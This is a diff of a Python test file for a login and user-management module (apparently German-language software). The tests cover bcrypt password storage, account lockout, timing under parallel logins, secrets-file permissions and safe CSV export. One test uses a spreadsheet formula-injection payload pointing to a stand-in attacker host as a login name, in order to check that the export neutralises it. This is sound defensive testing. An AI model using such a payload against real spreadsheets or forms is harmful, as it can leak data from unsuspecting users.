@@ -13,9 +13,10 @@ import bcrypt
 import duckdb
 import pytest
 
-from werkstatt.commands import auth
+from werkstatt.commands import login, users
 from werkstatt.errors import LockedError, ValidationError, WerkstattError
 from werkstatt.outputs.csv import to_csv_bytes
+from werkstatt.store import files
 from werkstatt.views import changes, queries
 
 ROOT = Path(__file__).resolve().parents[2]
@@ -26,8 +27,8 @@ USERS = {"anna": {"role": "bearbeiter", "password_hash": HASH},
 
 
 def test_the_right_password_logs_in_with_the_role(con):
-    user = auth.authenticate(con, USERS, "Anna ", "richtiges-passwort")
-    assert user == auth.User("anna", "bearbeiter") and user.can_record and not user.can_edit_plan
+    user = login.authenticate(con, USERS, "Anna ", "richtiges-passwort")
+    assert user == login.User("anna", "bearbeiter") and user.can_record and not user.can_edit_plan
     assert con.execute("SELECT benutzer, aktion FROM aenderung").fetchall() == [
         ("anna", "Anmeldung")]
 
@@ -35,39 +36,39 @@ def test_the_right_password_logs_in_with_the_role(con):
 def test_a_wrong_password_and_an_unknown_user_get_the_same_answer_and_are_logged(con):
     for name in ("anna", "niemand"):
         with pytest.raises(ValidationError, match="Benutzername oder Passwort falsch"):
-            auth.authenticate(con, USERS, name, "falsch")
+            login.authenticate(con, USERS, name, "falsch")
     assert con.execute("SELECT benutzer FROM aenderung WHERE aktion = 'Anmeldung fehlgeschlagen' "
                        "ORDER BY id").fetchall() == [("anna",), ("niemand",)]
 
 
 def test_repeated_wrong_passwords_lock_the_user_for_a_while(con):
     now = datetime(2026, 11, 26, 10, 0)
-    for minute in range(auth.MAX_FAILURES):
+    for minute in range(login.MAX_FAILURES):
         with pytest.raises(ValidationError):
-            auth.authenticate(con, USERS, "anna", "falsch", now + timedelta(minutes=minute))
+            login.authenticate(con, USERS, "anna", "falsch", now + timedelta(minutes=minute))
     with pytest.raises(LockedError, match="gesperrt"):
-        auth.authenticate(con, USERS, "anna", "richtiges-passwort", now + timedelta(minutes=5))
-    later = now + timedelta(minutes=4) + auth.LOCK + timedelta(seconds=1)
-    assert auth.authenticate(con, USERS, "anna", "richtiges-passwort", later).name == "anna"
+        login.authenticate(con, USERS, "anna", "richtiges-passwort", now + timedelta(minutes=5))
+    later = now + timedelta(minutes=4) + login.LOCK + timedelta(seconds=1)
+    assert login.authenticate(con, USERS, "anna", "richtiges-passwort", later).name == "anna"
 
 
 def test_a_reader_may_not_write():
-    reader = auth.User("leo", "leser")
+    reader = login.User("leo", "leser")
     assert not reader.can_record and not reader.can_edit_plan
-    assert auth.User("chef", "admin").can_edit_plan
+    assert login.User("chef", "admin").can_edit_plan
 
 
 def test_no_password_is_stored_or_logged_in_plain_text(con, tmp_path):
     secrets = tmp_path / "secrets.toml"
     secrets.write_text('[auth]\nredirect_uri = "http://localhost:8501/oauth2callback"\n')
-    auth.add_user(secrets, "anna", "bearbeiter", "ein-langes-passwort")
+    users.add_user(secrets, "anna", "bearbeiter", "ein-langes-passwort")
     text = secrets.read_text()
     assert "ein-langes-passwort" not in text and "redirect_uri" in text
     entry = tomllib.loads(text)["werkstatt_users"]["anna"]
     assert entry["role"] == "bearbeiter"
     assert bcrypt.checkpw(b"ein-langes-passwort", entry["password_hash"].encode())
     with pytest.raises(ValidationError):
-        auth.authenticate(con, tomllib.loads(text)["werkstatt_users"], "anna", "x-falsch")
+        login.authenticate(con, tomllib.loads(text)["werkstatt_users"], "anna", "x-falsch")
     logged = " ".join(str(v) for row in con.execute("SELECT * FROM aenderung").fetchall()
                       for v in row)
     assert "x-falsch" not in logged and "ein-langes-passwort" not in logged
@@ -80,7 +81,7 @@ def test_no_password_is_stored_or_logged_in_plain_text(con, tmp_path):
 ])
 def test_bad_user_entries_are_refused(tmp_path, name, role, password, message):
     with pytest.raises(ValidationError, match=message):
-        auth.add_user(tmp_path / "s.toml", name, role, password)
+        users.add_user(tmp_path / "s.toml", name, role, password)
     assert not (tmp_path / "s.toml").exists()
 
 
@@ -96,9 +97,9 @@ def slow_bcrypt(monkeypatch):
 
     def checkpw(password, hashed):
         time.sleep(SLOW)
-        return hashed != auth._DUMMY_HASH and real(password, hashed)
+        return hashed != login._DUMMY_HASH and real(password, hashed)
 
-    monkeypatch.setattr(auth.bcrypt, "checkpw", checkpw)
+    monkeypatch.setattr(login.bcrypt, "checkpw", checkpw)
 
 
 def in_parallel(count: int, attempt) -> list:
@@ -125,30 +126,30 @@ def test_parallel_wrong_logins_with_unknown_names_do_not_delay_a_valid_login(db,
             if i == 16:
                 time.sleep(0.05)  # the attackers are already hashing
                 started = time.perf_counter()
-                user = auth.authenticate(con, USERS, "anna", "richtiges-passwort")
+                user = login.authenticate(con, USERS, "anna", "richtiges-passwort")
                 outcome["seconds"] = time.perf_counter() - started
                 return user
-            return auth.authenticate(con, USERS, f"unbekannt{i}", "falsch")
+            return login.authenticate(con, USERS, f"unbekannt{i}", "falsch")
         finally:
             con.close()
 
     results = in_parallel(17, attempt)
-    assert results[16] == auth.User("anna", "bearbeiter")
+    assert results[16] == login.User("anna", "bearbeiter")
     assert all(isinstance(r, ValidationError) for r in results[:16])
     # one process-wide lock during hashing made this 16 × SLOW = 4.8 s
     assert outcome["seconds"] < SLOW + 1.0, outcome
 
 
 def test_parallel_wrong_passwords_for_one_name_still_lock_after_five(con, slow_bcrypt):
-    results = in_parallel(20, lambda i: auth.authenticate(con.cursor(), USERS, "anna", "falsch"))
+    results = in_parallel(20, lambda i: login.authenticate(con.cursor(), USERS, "anna", "falsch"))
     wrong = [r for r in results
              if isinstance(r, ValidationError) and not isinstance(r, LockedError)]
     locked = [r for r in results if isinstance(r, LockedError)]
-    assert len(wrong) == auth.MAX_FAILURES and len(locked) == 20 - auth.MAX_FAILURES
+    assert len(wrong) == login.MAX_FAILURES and len(locked) == 20 - login.MAX_FAILURES
     assert con.execute("SELECT count(*) FROM aenderung WHERE aktion = 'Anmeldung fehlgeschlagen'"
-                       ).fetchone() == (auth.MAX_FAILURES,)
+                       ).fetchone() == (login.MAX_FAILURES,)
     with pytest.raises(LockedError, match="gesperrt"):
-        auth.authenticate(con, USERS, "anna", "richtiges-passwort")
+        login.authenticate(con, USERS, "anna", "richtiges-passwort")
 
 
 # --- user add: secrets written safely, contact of the plan ------------------------------------
@@ -184,11 +185,11 @@ def test_a_new_secrets_file_is_private_from_its_first_byte(tmp_path, monkeypatch
         seen.append(stat.S_IMODE(os.stat(source).st_mode))  # the file about to appear
         real_replace(source, target)
 
-    monkeypatch.setattr(auth.os, "replace", replace)
-    auth.add_user(secrets, "anna", "bearbeiter", "ein-langes-passwort")
+    monkeypatch.setattr(files.os, "replace", replace)
+    users.add_user(secrets, "anna", "bearbeiter", "ein-langes-passwort")
     assert seen == [0o600] and stat.S_IMODE(secrets.stat().st_mode) == 0o600
     secrets.chmod(0o644)
-    auth.add_user(secrets, "leo", "leser", "ein-langes-passwort")
+    users.add_user(secrets, "leo", "leser", "ein-langes-passwort")
     assert stat.S_IMODE(secrets.stat().st_mode) == 0o600
 
 
@@ -234,16 +235,16 @@ def test_a_user_can_be_tied_to_a_contact_of_the_plan(tmp_path, db):
     users = tomllib.loads(secrets.read_text())["werkstatt_users"]
     assert users["niels"]["kontakt"] == "Niels Buck"  # the plan's spelling
     con = duckdb.connect(str(db))
-    user = auth.authenticate(con, users, "niels", "ein-langes-passwort")
+    user = login.authenticate(con, users, "niels", "ein-langes-passwort")
     assert user.kontakt == "Niels Buck" and user.role == "bearbeiter"
-    assert auth.authenticate(con, USERS, "anna", "richtiges-passwort").kontakt is None
+    assert login.authenticate(con, USERS, "anna", "richtiges-passwort").kontakt is None
 
 
 def test_an_unknown_contact_is_refused_with_suggestions_and_nothing_is_written(tmp_path, db):
     secrets = tmp_path / "secrets.toml"
     run = user_add(secrets, "niels", "--kontakt", "Niels Bock", db=db)
     stderr = run.stderr.decode()
-    assert run.returncode == 1 and "Den Kontakt „Niels Bock“ gibt es im Plan nicht" in stderr
+    assert run.returncode == 2 and "Den Kontakt „Niels Bock“ gibt es im Plan nicht" in stderr
     assert "Ähnlich: Niels Buck" in stderr
     assert not secrets.exists()
     missing = user_add(secrets, "niels", "--kontakt", "Niels Buck", db=tmp_path / "fehlt.duckdb")
@@ -254,7 +255,7 @@ def test_an_unknown_contact_is_refused_with_suggestions_and_nothing_is_written(t
 def test_the_change_history_csv_neutralises_a_formula_typed_as_login_name(con):
     evil = '=hyperlink("http://ev.il/?x","klick")'
     with pytest.raises(ValidationError):
-        auth.authenticate(con, USERS, evil, "falsch")
+        login.authenticate(con, USERS, evil, "falsch")
     exported = to_csv_bytes(changes.readable(queries.changes(con))).decode("utf-8-sig")
     assert "'=hyperlink" in exported and "\n=hyperlink" not in exported
     assert ';=hyperlink' not in exported
